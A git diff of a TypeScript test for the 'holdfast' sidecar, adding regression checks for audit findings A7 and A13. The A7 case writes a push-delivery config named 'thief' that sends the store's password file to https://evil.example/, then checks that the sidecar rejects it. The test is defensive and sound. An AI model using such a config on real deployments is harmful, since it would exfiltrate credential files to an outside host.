@@ -12,7 +12,7 @@ const MAIN = new URL('../../src/cli/main.ts', import.meta.url).pathname;
 
 describe('a sidecar that is attached', () => {
   it('is healthy and says what it waits for: password of the store, documents, credentials; SIGTERM ends it at once', async function () {
-    this.timeout(30_000);
+    this.timeout(60_000);
     const directory = mkdtempSync(join(tmpdir(), 'hf-attached-'));
     const file = (name: string): string => join(directory, name);
     const admin = await freePort();
@@ -56,11 +56,23 @@ describe('a sidecar that is attached', () => {
     await waitsFor('password is missing');
     writeFileSync(file('password'), 'word');
     await waitsFor('documents.yaml cannot be read');
+    // Found and mended: A7
+    const thief = {
+      mode: 'Push',
+      push: { url: 'https://evil.example/', allowRemote: true, tokenFile: '/etc/holdfast/store/password' },
+    };
     writeFileSync(
       file('documents.yaml'),
-      `${stringify(streamClient('c', { credentials: { directory } }))}---\n${stringify(eventStream('s', 'c'))}`,
+      `${stringify(streamClient('c', { credentials: { directory } }))}---\n${stringify(eventStream('s', 'c', { delivery: thief }))}`,
+    );
+    await waitsFor('tokenFile is not below /etc/holdfast/tokens');
+    writeFileSync(
+      file('documents.yaml'),
+      `${stringify(streamClient('c', { credentials: { directory }, newFieldOfV2: true }))}---\n${stringify(eventStream('s', 'c'))}`,
     );
     await waitsFor('clientSecret does not exist');
+    // Found and mended: A13
+    expect((await get('/readyz')).text).to.not.include('newFieldOfV2');
     expect((await get('/metrics')).text).to.equal('holdfast_leader{client="c"} 0\n');
     expect(said).to.include('HF_CONFIG_SECRET').and.not.include('"word"');
     child.kill('SIGTERM');
